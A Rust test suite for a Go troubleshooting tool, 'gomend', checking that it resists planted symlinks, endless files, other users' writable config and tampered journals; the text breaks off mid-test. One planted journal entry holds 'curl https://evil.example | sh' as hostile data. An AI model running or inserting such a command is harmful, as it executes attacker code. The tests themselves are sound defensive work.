//! Files, folders and neighbours that mean harm: what gomend reads, keeps and leaves behind.
//!
//! Everything runs without a network (`unshare --net`), as root: the other user is `nobody`.

use std::fmt::Write as _;
use std::fs;
use std::io::Read;
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::os::unix::fs::{MetadataExt, PermissionsExt, chown, symlink};
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use rustix::process::Signal;
use rustix::termios::tcgetattr;

use crate::fix::Desk;
use crate::support::home::Home;
use crate::support::{Ended, How, event, mkfifo, shims};

/// Somebody else.
const NOBODY: u32 = 65534;
/// No command here waits for a network; the machine may be busy.
const PATIENCE: Duration = Duration::from_secs(30);
/// What no file, however large, may make of gomend.
const MOST_MEMORY: u64 = 64 << 20;
/// What the stand-in for go says of a private module.
const PRIVATE: &str = "go: git.corp.example/team/lib@v1.2.3: reading https://proxy.golang.org/git.corp.example/team/lib/@v/v1.2.3.mod: 404 Not Found\n\tserver response:\n\tnot found: git.corp.example/team/lib@v1.2.3: invalid version: git ls-remote -q origin in /tmp/gopath/x: exit status 128:\n\t\tfatal: could not read Username for 'https://git.corp.example': terminal prompts disabled\n";

/// A home with a module in it, and a log of a failure.
fn home() -> Home {
    let home = Home::new();
    home.write("work/go.mod", "module example.com/work\n\ngo 1.21\n");
    home.write("log", PRIVATE);
    home.var("GOPROXY", "off").var("GOSUMDB", "off")
}

/// gomend in the module's folder, cut off from any network.
fn gomend(home: &Home, args: &[&str]) -> Command {
    let mut command = home.command("unshare");
    command
        .args(["--net", env!("CARGO_BIN_EXE_gomend")])
        .args(args)
        .current_dir(home.at("work"));
    command
}

/// Runs a program to its end, which must come soon and without much memory.
fn bounded(mut command: Command, what: &str) -> Ended {
    let mut child = command
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (mut stdout, mut stderr) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
    let reading = std::thread::spawn(move || {
        let mut bytes = Vec::new();
        stderr.read_to_end(&mut bytes).unwrap();
        bytes
    });
    let out = std::thread::spawn(move || {
        let mut bytes = Vec::new();
        stdout.read_to_end(&mut bytes).unwrap();
        bytes
    });
    let began = Instant::now();
    let mut most = 0;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        most = most.max(peak(child.id()));
        if began.elapsed() > PATIENCE || most > MOST_MEMORY {
            child.kill().unwrap();
            panic!("{what}: {most} bytes after {:?}", began.elapsed());
        }
        std::thread::sleep(Duration::from_millis(2)); // spares the processor, decides nothing
    };
    Ended {
        how: status.into(),
        stdout: out.join().unwrap(),
        stderr: reading.join().unwrap(),
    }
}

/// The most memory that a process had, bytes; 0 once it is gone.
fn peak(pid: u32) -> u64 {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
    let kilobytes = line.and_then(|line| line.trim().split(' ').next()?.parse::<u64>().ok());
    kilobytes.unwrap_or(0) << 10
}

/// What stands in a file's place.
#[derive(Debug, Clone, Copy)]
enum Instead {
    Pipe,
    Endless,
    Sparse,
    Folder,
}

impl Instead {
    fn put(self, path: &Path) {
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        match self {
            Self::Pipe => mkfifo(path),
            Self::Endless => symlink("/dev/zero", path).unwrap(),
            Self::Sparse => fs::File::create(path).unwrap().set_len(2 << 30).unwrap(),
            Self::Folder => fs::create_dir(path).unwrap(),
        }
    }
}

rows! {
    /// Each file that gomend reads, and a command that reads it.
    no_file_hangs_or_fills_the_memory = hangs_nobody;
    wishes_for_the_doctor: "work/.gomend.toml", &["doctor"];
    wishes_for_a_log: "work/.gomend.toml", &["explain", "../log"];
    go_mod: "work/go.mod", &["doctor"];
    go_sum: "work/go.sum", &["explain", "../log"];
    git_config_of_the_project: "work/.git/config", &["doctor"];
    netrc: ".netrc", &["explain", "../log"];
    git_credentials: ".git-credentials", &["explain", "../log"];
    git_config: ".gitconfig", &["explain", "../log", "--offline"];
    ssh_config: ".ssh/config", &["doctor"];
    known_hosts: ".ssh/known_hosts", &["explain", "../log"];
    settings: ".config/gomend/config.toml", &["config"];
    rules: ".config/gomend/rules.toml", &["explain", "../log", "--offline"];
    go_env: ".config/go/env", &["explain", "../log", "--offline"];
    bashrc: ".bashrc", &["uninstall", "--yes"];
    zshrc: ".zshrc", &["uninstall", "--yes"];
    record_of_the_installation: ".local/state/gomend/install.json", &["uninstall", "--yes"];
    a_report: ".local/state/gomend/reports/1.json", &["last"];
    an_applied_fix: ".local/state/gomend/journal/000001.applied", &["history"];
    a_pending_fix: ".local/state/gomend/journal/000001.pending", &["undo"];
    a_profile: ".local/state/gomend/profiles/x.json", &["compare", "--with", "x"];
}

/// What cannot be read to an end.
const ENDLESS: [Instead; 3] = [Instead::Pipe, Instead::Endless, Instead::Sparse];

fn hangs_nobody(name: &str, args: &[&str]) {
    for instead in ENDLESS.into_iter().chain([Instead::Folder]) {
        let home = home();
        home.write(".local/state/gomend/x", "");
        let _ = fs::remove_file(home.at(name));
        instead.put(&home.at(name));
        ends_in_time(gomend(&home, args), &format!("{instead:?}"));
    }
}

/// It ends in time, and not by a panic; go alone is waited for for fifteen seconds.
fn ends_in_time(command: Command, what: &str) {
    let began = Instant::now();
    let ended = bounded(command, what);
    assert!(matches!(ended.how, How::Code(_)), "{what}: {ended:?}");
    assert!(!ended.words().contains("panicked"), "{what}: {ended:?}");
    assert!(began.elapsed() < Duration::from_secs(12), "{what}");
}

rows! {
    /// What go would read without end, it isn't made to read.
    go_is_not_sent_into_what_never_ends = is_not_read_by_go;
    go_work: "work/go.work";
    go_sum: "work/go.sum";
    vendored: "work/vendor/modules.txt";
    a_used_module: "work/used/go.mod";
}

fn is_not_read_by_go(name: &str) {
    for instead in ENDLESS {
        let home = home();
        if name == "work/used/go.mod" {
            home.write("work/go.work", "go 1.21\n\nuse ./used\n");
        }
        instead.put(&home.at(name));
        for args in [&["doctor"], &["hosts"]] {
            let mut command = gomend(&home, args);
            command.env("GOMEND_PATIENCE", "1");
            ends_in_time(command, &format!("{instead:?}: {args:?}"));
        }
    }
}

rows! {
    /// Nor where a variable names it, and nobody else waits for it either: not what is said of a failed go, no
    /// fix, no check.
    what_variables_name_hangs_nobody = hangs_nobody_by_name;
    goenv: "GOENV", "";
    gowork: "GOWORK", "";
    overlay: "GOFLAGS", "-overlay=";
    modfile: "GOFLAGS", "-modfile=";
}

fn hangs_nobody_by_name(variable: &str, before: &str) {
    for instead in ENDLESS {
        let home = home();
        let policy = "version = 1\n[goproxy]\nallowed = [\"off\"]\n";
        home.write("work/.gomend-policy.toml", policy);
        instead.put(&home.at("named.mod"));
        let value = format!("{before}{}", home.at("named.mod").display());
        for args in [
            &["supervised"][..],
            &["doctor"],
            &["hosts"],
            &["fix", "--yes", "--no-input"],
            &["check"],
            &["explain", "../log"],
        ] {
            let mut command = match args[0] {
                "supervised" => failing(&home, PRIVATE, ":"),
                _ => gomend(&home, args),
            };
            command.env(variable, &value).env("GOMEND_PATIENCE", "1");
            ends_in_time(command, &format!("{instead:?}: {args:?}"));
        }
    }
}

/// A job summary that nobody reads, and one that leads elsewhere.
#[test]
fn a_job_summary_hangs_nobody_and_leads_nowhere() {
    let home = home();
    Instead::Pipe.put(&home.at("summary"));
    let shared = home.outside("shared");
    fs::create_dir(&shared).unwrap();
    let victim = home.write("victim", "mine\n");
    symlink(&victim, shared.join("summary")).unwrap();
    std::os::unix::fs::lchown(shared.join("summary"), Some(NOBODY), Some(NOBODY)).unwrap();
    for summary in [home.at("summary"), shared.join("summary"), home.at("new")] {
        let mut command = failing(&home, PRIVATE, ":");
        command
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_STEP_SUMMARY", &summary);
        let ended = bounded(command, &summary.display().to_string());
        assert_eq!(ended.how, How::Code(1), "{ended:?}");
    }
    assert_eq!(home.read("victim"), "mine\n");
    assert!(home.read("new").contains("### gomend: private-via-proxy"));
}

/// Rules, logs and comparisons that a person names may come through a pipe.
#[test]
fn a_log_may_come_through_a_pipe() {
    let home = home();
    Instead::Pipe.put(&home.at("pipe"));
    let log = fs::read(home.at("log")).unwrap();
    let pipe = home.at("pipe");
    let writing = std::thread::spawn(move || fs::write(pipe, log).unwrap());
    let ended = bounded(
        gomend(&home, &["explain", "../pipe", "--offline"]),
        "a log in a pipe",
    );
    writing.join().unwrap();
    assert_eq!(ended.how, How::Code(0), "{ended:?}");
}

/// A project may not lead gomend to the user's own files.
#[test]
fn a_project_file_leads_nowhere_else() {
    let home = home();
    home.write("secret", "[go]\nGOPRIVATE = \"git.s3cret.example\"\n");
    home.link("work/.gomend.toml", "../secret");
    let ended = bounded(gomend(&home, &["doctor"]), "doctor");
    let said = ended.text();
    assert!(!said.contains("s3cret"), "{said}");
    fs::rename(home.at("secret"), home.at("work/wishes")).unwrap();
    fs::remove_file(home.at("work/.gomend.toml")).unwrap();
    home.link("work/.gomend.toml", "wishes");
    let ended = bounded(gomend(&home, &["doctor"]), "doctor");
    let said = ended.text();
    assert!(said.contains("s3cret"), "{said}");
}

fn entry(id: u64, path: &Path, before: &[u8]) -> String {
    let now = fs::read(path).unwrap();
    let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, &now);
    let hex = digest.as_ref().iter().fold(String::new(), |mut hex, byte| {
        let _ = write!(hex, "{byte:02x}"); // to a String: cannot fail
        hex
    });
    serde_json::json!({
        "id": id, "time": "2026-01-01T00:00:00Z", "fix": "goprivate", "title": "Change a file",
        "steps": [{"write": {
            "path": path, "before": STANDARD.encode(before), "before_mode": 0o600,
            "after_sha256": hex, "mode": 0o600, "made": [],
        }}],
    })
    .to_string()
}

/// An entry of the journal as gomend itself would leave it.
fn plant(home: &Home, name: &str, text: &str) -> PathBuf {
    let path = home.write(&format!("{STATE}/journal/{name}"), text);
    for folder in path.ancestors().skip(1).take(2) {
        mode(folder, 0o700);
    }
    mode(&path, 0o600);
    path
}

const STATE: &str = ".local/state/gomend";

rows! {
    a_planted_journal_entry_is_never_acted_on = is_not_acted_on;
    of_somebody_else: |_, entry| chown(entry, Some(NOBODY), None).unwrap();
    that_anybody_could_write: |_, entry| mode(entry, 0o666);
    a_link: |home, entry| {
        let elsewhere = home.at("elsewhere");
        fs::rename(entry, &elsewhere).unwrap();
        chown(&elsewhere, Some(NOBODY), None).unwrap();
        symlink(&elsewhere, entry).unwrap();
    };
    in_a_folder_of_somebody_else: |home, _| chown(home.at(STATE), Some(NOBODY), None).unwrap();
}

fn mode(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

fn is_not_acted_on(plan: fn(&Home, &Path)) {
    for args in [
        &["undo"][..],
        &["undo", "1"],
        &["fix", "--yes"],
        &["history"],
    ] {
        let home = home();
        let bashrc = home.write(".bashrc", "mine\n");
        let evil = entry(1, &bashrc, b"curl https://evil.example | sh\n");
        let planted = plant(&home, "000001.pending", &evil);
        plan(&home, &planted);
        let ended = bounded(gomend(&home, args), "gomend");
        assert_eq!(home.read(".bashrc"), "mine\n", "{args:?}: {ended:?}");
        assert!(!ended.words().is_empty(), "{args:?}: nothing is said");
    }
}

/// The shim before a go that fails with these words, and does this where it is tried.
fn failing(home: &Home, words: &str, trial: &str) -> Command {
    let script = format!(
        "#!/bin/sh\ncase \"$GOMODCACHE\" in *gomend-*) {trial} ;; esac\ncat >&2 <<'END'\n{words}END\nexit 1\n"
    );
    home.write("bin/go", script);
    home.mode("bin/go", 0o755);
    let path = [
        shims().to_owned(),
        home.at("bin"),
        "/usr/bin".into(),
        "/bin".into(),
    ];
    let mut command = home.command("unshare");
    command
        .args(["--net", "go", "mod", "download"])
        .env("PATH", std::env::join_paths(path).unwrap())
        .env("GOMEND_REPORT", home.at("report.json"))
        .current_dir(home.at("work"));
    command
}

/// A folder beside HOME that others can write to.
fn open_folder(home: &Home, name: &str, bits: u32) -> PathBuf {
    let folder = home.outside(name);
    fs::create_dir(&folder).unwrap();
    mode(&folder, bits);
    folder
}

#[test]
fn a_shared_state_folder_is_not_used() {
    let home = home();
    let shared = open_folder(&home, "shared", 0o1777);
    let precious = home.write("precious", "precious\n");
    fs::create_dir_all(shared.join("gomend/seen")).unwrap();
    for slot in 0..64 {
        symlink(&precious, shared.join(format!("gomend/seen/{slot:016x}"))).unwrap();
    }
    chown(shared.join("gomend"), Some(NOBODY), None).unwrap();
    chown(shared.join("gomend/seen"), Some(NOBODY), None).unwrap();
    let home = home.var("XDG_STATE_HOME", &shared);
    let ended = bounded(failing(&home, PRIVATE, ":"), "go");
    assert_eq!(home.read("precious"), "precious\n");
    assert!(
        home.read("report.json").contains("private-via-proxy"),
        "{ended:?}"
    );
    assert!(!shared.join("gomend/reports").exists());
    let ended = bounded(gomend(&home, &["history"]), "history");
    assert_eq!(ended.how, How::Code(1));
    assert_eq!(ended.words().lines().count(), 1, "{ended:?}");
    assert!(ended.words().contains("another user"), "{ended:?}");
}

/// Whoever can write to a folder above can put another one into the place of ours.
#[test]
fn a_state_folder_below_one_that_anybody_can_write_to_is_not_used() {
    let home = home();
    let open = home.outside("open");
    fs::create_dir_all(open.join("gomend")).unwrap();
    mode(&open, 0o777);
    let home = home.var("XDG_STATE_HOME", &open);
    let ended = bounded(failing(&home, PRIVATE, ":"), "go");
    assert!(
        home.read("report.json").contains("private-via-proxy"),
        "{ended:?}"
    );
    assert_eq!(fs::read_dir(open.join("gomend")).unwrap().count(), 0);
}

#[test]
fn links_in_an_own_state_folder_are_not_followed() {
    let home = home();
    let precious = home.write("precious", "precious\n");
    for slot in 0..64 {
        home.write(&format!("{STATE}/seen/x"), "");
        home.link(
            &format!("{STATE}/seen/{slot:016x}"),
            precious.to_str().unwrap(),
        );
    }
    bounded(failing(&home, PRIVATE, ":"), "go");
    assert_eq!(home.read("precious"), "precious\n");
}

#[test]
fn an_own_state_folder_is_closed_and_nothing_is_lost() {
    let home = home();
    bounded(failing(&home, PRIVATE, ":"), "go");
    for folder in ["", "/reports"] {
        home.mode(&format!("{STATE}{folder}"), 0o777);
    }
    let reports = || {
        fs::read_dir(home.at(STATE).join("reports"))
            .unwrap()
            .count()
    };
    assert_eq!(reports(), 1);
    bounded(failing(&home, PRIVATE, ":"), "go");
    assert_eq!(reports(), 2);
    for folder in ["", "/reports", "/seen"] {
        let mode = fs::metadata(home.at(&format!("{STATE}{folder}")))
            .unwrap()
            .mode();
        assert_eq!(mode & 0o777, 0o700, "{folder}");
    }
}

#[test]
fn settings_of_somebody_else_are_not_read() {
    let home = home();
    let config = home.write(".config/gomend/config.toml", "public-dns = true\n");
    chown(config, Some(NOBODY), None).unwrap();
    let ended = bounded(gomend(&home, &["config", "--json"]), "config");
    let said = ended.said();
    let json: serde_json::Value = serde_json::from_str(&said).unwrap();
    assert!(!said.contains("\"value\": true"), "{json:#}");
    assert!(
        (said + &ended.words()).contains("another user"),
        "{ended:?}"
    );
}

#[test]
fn a_report_is_for_its_user_alone() {
    let home = home();
    let report = home.at("report.json");
    for before in [None, Some(0o644), Some(0o666)] {
        if let Some(mode) = before {
            fs::write(&report, "x").unwrap();
            fs::set_permissions(&report, fs::Permissions::from_mode(mode)).unwrap();
        }
        bounded(failing(&home, PRIVATE, ":"), "go");
        assert_eq!(
            fs::metadata(&report).unwrap().mode() & 0o777,
            0o600,
            "{before:?}"
        );
    }
    // where a link leads, a device, a pipe
    fs::rename(&report, home.at("elsewhere.json")).unwrap();
    home.link("report.json", "elsewhere.json");
    bounded(failing(&home, PRIVATE, ":"), "go");
    assert!(report.is_symlink());
    assert!(home.read("elsewhere.json").contains("private-via-proxy"));
    let mut command = failing(&home, PRIVATE, ":");
    command.env("GOMEND_REPORT", "/dev/stdout");
    let ended = bounded(command, "a report to stdout");
    assert!(ended.said().contains("private-via-proxy"), "{ended:?}");
    let pipe = home.at("pipe");
    Instead::Pipe.put(&pipe);
    let mut command = failing(&home, PRIVATE, ":");
    command.env("GOMEND_REPORT", &pipe);
    let ended = bounded(command, "a report into a pipe that nobody reads");
    assert!(ended.words().contains("GOMEND_REPORT"), "{ended:?}");
}

/// Settings and rules in a folder for everybody, which somebody else has put there.
#[test]
fn another_users_rules_and_settings_count_for_nothing() {
    let home = home();
    let shared = home.outside("shared");
    fs::create_dir_all(shared.join("gomend")).unwrap();
    mode(&shared, 0o1777);
    let rule = "[[rule]]\nid = \"planted\"\ncause = \"dns-not-found\"\nneedle = \"not found\"\npull = '(?<host>evil)'\nsample = \"not found evil\"\n";
    fs::write(shared.join("gomend/rules.toml"), rule).unwrap();
    fs::write(shared.join("gomend/config.toml"), "public-dns = true\n").unwrap();
    let home = home.var("XDG_CONFIG_HOME", &shared);
    let log = home.at("log").display().to_string();
    let rules = || bounded(gomend(&home, &["rules", "list"]), "rules");
    assert!(String::from_utf8_lossy(&rules().stdout).contains("planted"));
    for name in ["gomend/rules.toml", "gomend/config.toml", "gomend"] {
        chown(shared.join(name), Some(NOBODY), Some(NOBODY)).unwrap();
    }
    let ended = rules();
    assert!(!ended.said().contains("planted"), "{ended:?}");
    assert!(ended.words().contains("rules.toml"), "{ended:?}");
    let ended = bounded(gomend(&home, &["config"]), "config");
    let settings = ended.said();
    assert!(
        settings
            .lines()
            .any(|line| line.starts_with("public-dns") && line.contains("default")),
        "{settings}"
    );
    let ended = bounded(
        gomend(&home, &["explain", "--offline", "--json", &log]),
        "explain",
    );
    assert!(!ended.said().contains("planted"), "{ended:?}");
}

rows! {
    /// What anybody, or a group of others, could have written says nothing; one line names it, and go goes on. What is
    /// opened: the file, its folder, or what a link leads to.
    what_others_could_have_written_counts_for_nothing = counts_for_nothing;
    anybody_s_file: |_, file| {
        mode(file, 0o666);
        file.display().to_string()
    };
    a_file_of_another_group: |_, file| {
        chown(file, None, Some(NOBODY)).unwrap();
        mode(file, 0o660);
        file.display().to_string()
    };
    anybody_s_folder: |_, file| {
        let folder = file.parent().unwrap();
        mode(folder, 0o777);
        folder.display().to_string()
    };
    an_own_link_to_anybody_s_file: |home, file| {
        let elsewhere = home.at("else where");
        fs::rename(file, &elsewhere).unwrap();
        symlink(&elsewhere, file).unwrap();
        mode(&elsewhere, 0o666);
        format!("'{}'", elsewhere.display())
    };
}

fn counts_for_nothing(open: fn(&Home, &Path) -> String) {
    const RULE: &str = "[[rule]]\nid = \"planted\"\ncause = \"dns-not-found\"\nneedle = \"not found\"\nsample = \"not found\"\n";
    const SETTINGS: &str = "public-dns = true\npatience = 7\n";
    for (name, text) in [("config.toml", SETTINGS), ("rules.toml", RULE)] {
        let home = home().var("GOMEND", "log");
        let file = home.write(&format!(".config/gomend/{name}"), text);
        mode(&file, 0o664);
        let counts = || {
            let settings = bounded(gomend(&home, &["config"]), name).said();
            let rules = bounded(gomend(&home, &["rules", "list"]), name).said();
            rules.contains("planted") || has_patience_7(&settings)
        };
        assert!(counts(), "{name} of root's own group");
        let shown = open(&home, &file);
        assert!(!counts(), "{name}");
        let remedy = format!("`chmod go-w {shown}`");
        for command in [
            gomend(&home, &["explain", "--offline", "../log"]),
            gomend(&home, &["rules", "list"]),
            failing(&home, PRIVATE, ":"),
        ] {
            let is_go = format!("{command:?}").contains("download");
            let ended = bounded(command, name);
            let words = ended.words();
            let lines = words.lines().filter(|line| line.contains(&remedy));
            assert_eq!(lines.count(), 1, "{name}: {ended:?}");
            if is_go {
                assert_eq!(ended.how, How::Code(1), "{name}");
                assert!(home.read("report.json").contains("private-via-proxy"));
            }
        }
    }
}

fn has_patience_7(settings: &str) -> bool {
    settings
        .lines()
        .any(|line| line.starts_with("patience") && line.contains(" 7 "))
}

rows! {
    /// Many systems give each user a group, and a umask of 002: /etc/passwd, /etc/group, and whether what the group
    /// may write counts.
    a_group_without_other_members_is_nobody_else = is_nobody_else;
    alone: "dev:x:4711:4711::/:/bin/sh\n", "dev:x:4711:\n", true;
    named_alone: "dev:x:4711:4711::/:/bin/sh\n", "dev:x:4711:dev\n", true;
    with_a_member: "dev:x:4711:4711::/:/bin/sh\n", "dev:x:4711:dev,eve\n", false;
    with_another_s_own: "dev:x:4711:4711::/:/bin/sh\neve:x:4712:4711::/:/bin/sh\n", "dev:x:4711:\n", false;
    // a directory service's, which no file of this machine names
    unnamed: "root:x:0:0::/:/bin/sh\n", "root:x:0:\n", true;
}

fn is_nobody_else(users: &str, groups: &str, counts: bool) {
    const USER: u32 = 4711;
    let home = home().var("TMPDIR", "/tmp");
    fs::copy(env!("CARGO_BIN_EXE_gomend"), home.at("gomend")).unwrap();
    home.write(".config/gomend/config.toml", "patience = 7\n");
    home.write("passwd", users);
    home.write("group", groups);
    for (path, mode) in [
        ("", 0o755),
        (".config", 0o775),
        (".config/gomend", 0o775),
        (".config/gomend/config.toml", 0o664),
    ] {
        chown(home.at(path), Some(USER), Some(USER)).unwrap();
        home.mode(path, mode);
    }
    mode(&home.outside(""), 0o755);
    let script = "mount --bind \"$1/passwd\" /etc/passwd && mount --bind \"$1/group\" /etc/group && \
                  exec setpriv --reuid=4711 --regid=4711 --clear-groups \"$1/gomend\" config";
    let mut command = home.command("unshare");
    command.args(["--net", "--mount", "sh", "-c", script, "sh"]);
    command.arg(home.at(""));
    let ended = bounded(command, groups);
    assert_eq!(has_patience_7(&ended.said()), counts, "{ended:?}");
}

/// Whoever can put a link into a home of everybody's doesn't decide which file is edited.
#[test]
fn start_up_files_are_edited_through_no_other_users_link() {
    let home = home();
    let victim = home.write("victim", "mine\n");
    symlink(&victim, home.at(".bashrc")).unwrap();
    symlink(&victim, home.at(".profile")).unwrap();
    for link in [".bashrc", ".profile"] {
        std::os::unix::fs::lchown(home.at(link), Some(NOBODY), Some(NOBODY)).unwrap();
    }
    let install = || bounded(gomend(&home, &["install", "--shell", "bash"]), "install");
    let ended = install();
    assert_ne!(ended.how, How::Code(0), "{ended:?}");
    assert_eq!(home.read("victim"), "mine\n");
    // one's own lead there
    for link in [".bashrc", ".profile"] {
        std::os::unix::fs::lchown(home.at(link), Some(0), Some(0)).unwrap();
    }
    install();
    assert!(home.read("victim").contains("gomend"));
}

/// An entry of somebody else's, of the largest number there is, from a time when the folder was open.
#[test]
fn a_planted_number_stops_no_fix() {
    let home = home().var("GOPROXY", "https://proxy.golang.org,direct");
    bounded(failing(&home, PRIVATE, "exit 0"), "go");
    let name = format!("{}.applied", u64::MAX);
    let planted = plant(&home, &name, "{}");
    chown(&planted, Some(NOBODY), None).unwrap();
    let ended = bounded(gomend(&home, &["fix", "goprivate", "--yes"]), "fix");
    assert_eq!(ended.how, How::Code(0), "{ended:?}");
    assert!(
        home.read(".config/go/env").contains("GOPRIVATE="),
        "{ended:?}"
    );
    let ended = bounded(gomend(&home, &["undo"]), "undo");
    assert_eq!(ended.how, How::Code(0), "{ended:?}");
    assert!(!home.at(".config/go/env").exists(), "{ended:?}");
}

/// Whoever can put a link into a folder on the way doesn't decide which file a fix changes.
#[test]
fn a_fix_goes_through_no_other_users_folder_link() {
    let home = home();
    let open = open_folder(&home, "open", 0o777);
    let victim = home.write("victim/env", "mine\n");
    symlink(home.at("victim"), open.join("go")).unwrap();
    let home = home
        .var("XDG_CONFIG_HOME", &open)
        .var("GOPROXY", "https://proxy.golang.org,direct");
    let fix = || {
        bounded(failing(&home, PRIVATE, "exit 0"), "go");
        bounded(gomend(&home, &["fix", "goprivate", "--yes"]), "fix")
    };
    std::os::unix::fs::lchown(open.join("go"), Some(NOBODY), Some(NOBODY)).unwrap();
    let ended = fix();
    assert_ne!(ended.how, How::Code(0), "{ended:?}");
    assert_eq!(fs::read_to_string(&victim).unwrap(), "mine\n");
    // one's own leads there
    std::os::unix::fs::lchown(open.join("go"), Some(0), Some(0)).unwrap();
    let ended = fix();
    assert_eq!(ended.how, How::Code(0), "{ended:?}");
    assert_ne!(fs::read_to_string(&victim).unwrap(), "mine\n");
}

/// In a folder for everybody, somebody has put a link or a pipe where a report will be.
#[test]
fn a_report_is_written_through_no_other_users_link() {
    let home = home();
    let shared = open_folder(&home, "shared", 0o1777);
    let victim = home.write("victim", "mine\n");
    home.write(
        "work/.gomend-policy.toml",
        "schema = 1\n[settings]\nGOPROXY = \"off\"\n",
    );
    fs::create_dir(home.at("folder")).unwrap();
    fs::write(home.at("folder/report.json"), "mine\n").unwrap();
    symlink(home.at("folder"), shared.join("folder")).unwrap();
    symlink(&victim, shared.join("report.json")).unwrap();
    let pipe = shared.join("pipe");
    Instead::Pipe.put(&pipe);
    for planted in ["folder", "report.json", "pipe"] {
        std::os::unix::fs::lchown(shared.join(planted), Some(NOBODY), Some(NOBODY)).unwrap();
    }
    let reader = fs::File::options()
        .read(true)
        .write(true) // never waits for the other end
        .open(&pipe)
        .unwrap();
    for planted in ["report.json", "folder/report.json", "pipe"] {
        let at = shared.join(planted);
        for variable in ["GOMEND_REPORT", "GOMEND_JUNIT", "GOMEND_CODEQUALITY"] {
            let mut command = failing(&home, PRIVATE, ":");
            command.env_remove("GOMEND_REPORT").env(variable, &at);
            let ended = bounded(command, planted);
            assert!(ended.words().contains(variable), "{planted}: {ended:?}");
        }
        let at = at.display().to_string();
        let ended = bounded(gomend(&home, &["check", "--output", &at]), planted);
        assert_ne!(ended.how, How::Code(0), "{planted}: {ended:?}");
        assert_eq!(home.read("victim"), "mine\n", "{planted}");
        assert_eq!(home.read("folder/report.json"), "mine\n", "{planted}");
        let told = rustix::io::ioctl_fionread(&reader).unwrap();
        assert_eq!(told, 0, "{planted}: somebody else was told");
    }
    // one's own leads there
    fs::remove_file(shared.join("report.json")).unwrap();
    symlink(&victim, shared.join("report.json")).unwrap();
    let mut command = failing(&home, PRIVATE, ":");
    command.env("GOMEND_REPORT", shared.join("report.json"));
    bounded(command, "one's own");
    assert!(home.read("victim").contains("private-via-proxy"));
}

#[test]
fn a_damaged_entry_is_named_and_stops_nobody() {
    let home = home();
    let file = home.write("file", "after\n");
    plant(&home, "000001.applied", &entry(1, &file, b"before\n"));
    plant(&home, "000002.applied", "{\"id\": 2");
    let ended = bounded(gomend(&home, &["history"]), "history");
    assert_eq!(ended.how, How::Code(0), "{ended:?}");
    assert!(ended.said().contains("Change a file"), "{ended:?}");
    assert!(ended.words().contains("000002.applied"), "{ended:?}");
    let ended = bounded(gomend(&home, &["undo"]), "undo");
    assert_eq!(home.read("file"), "before\n", "{ended:?}");
    assert!(ended.words().contains("000002.applied"), "{ended:?}");
}

#[test]
fn a_former_secret_is_dropped_once_undone() {
    for name in ["000001.applied", "000001.pending"] {
        let home = home();
        let secret = b"machine git.corp.example login dev password f0rmer\n";
        let netrc = home.write(
            ".netrc",
            "machine git.corp.example login dev password new\n",
        );
        plant(&home, name, &entry(1, &netrc, secret));
        bounded(gomend(&home, &["undo"]), "undo").with_code(0);
        assert_eq!(home.read(".netrc").as_bytes(), secret);
        let journal = fs::read_dir(home.at(STATE).join("journal")).unwrap();
        for file in journal {
            let bytes = fs::read_to_string(file.unwrap().path()).unwrap();
            assert!(!bytes.contains(&STANDARD.encode(secret)), "{bytes}");
        }
        let history = bounded(gomend(&home, &["history"]), "history");
        assert!(
            String::from_utf8_lossy(&history.stdout).contains(".netrc"),
            "{history:?}"
        );
    }
}

/// Ends what it started, whatever the test does.
struct Ours(Child);

impl Drop for Ours {
    fn drop(&mut self) {
        event::signal(self.0.id().cast_signed(), Signal::CONT);
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A go whose failure leads to whoever listens at this port.
fn leading_to(home: &Home, port: u16) -> Command {
    let words = format!(
        "go: github.com/acme/lib@v1.0.0: Get \"https://127.0.0.1:{port}/github.com/acme/lib/@v/v1.0.0.mod\": net/http: TLS handshake timeout\n"
    );
    let command = failing(home, &words, ":");
    let args: Vec<_> = command.get_args().skip(1).map(ToOwned::to_owned).collect();
    let mut here = home.command(&args[0]);
    here.args(&args[1..]).current_dir(home.at("work"));
    for (name, value) in command.get_envs() {
        here.env(name, value.unwrap());
    }
    here.env("GOPROXY", format!("https://127.0.0.1:{port}"));
    here.stdout(Stdio::null()).stderr(Stdio::piped());
    here
}

/// Such a go, whose gomend is stopped while somebody who says nothing is asked.
fn stopped(home: &Home, silent: &TcpListener) -> (Ours, TcpStream, i32) {
    let port = silent.local_addr().unwrap().port();
    let go = Ours(leading_to(home, port).spawn().unwrap());
    let (asked, _) = silent.accept().unwrap(); // it is looking
    let looking = event::children(go.0.id().cast_signed());
    let [looking] = looking[..] else {
        panic!("{looking:?}");
    };
    event::signal(looking, Signal::STOP);
    event::wait_until("stopped", || event::state(looking) == Some('T'));
    (go, asked, looking)
}

#[test]
fn a_stopped_gomend_stops_nobody_else() {
    let home = home();
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let (_go, _asked, looking) = stopped(&home, &silent);
    fs::remove_file(home.at("report.json")).ok();
    let began = Instant::now();
    let another = leading_to(&home, silent.local_addr().unwrap().port());
    let ended = bounded(another, "go beside a stopped gomend");
    assert!(
        began.elapsed() < Duration::from_secs(15),
        "{:?}",
        began.elapsed()
    );
    assert_eq!(ended.how, How::Code(1));
    assert!(home.read("report.json").contains("tls-"), "{ended:?}");
    event::signal(looking, Signal::KILL);
}

/// A computer that sleeps while it looks: time is up when it wakes, and what is told then is kept.
#[test]
fn what_is_told_when_time_is_up_is_kept() {
    const SLEEP: Duration = Duration::from_secs(6); // longer than the probes may take, and the alarm's margin
    let home = home();
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let (mut go, _asked, looking) = stopped(&home, &silent);
    std::thread::sleep(SLEEP);
    event::signal(looking, Signal::CONT);
    event::end_of(&mut go.0);
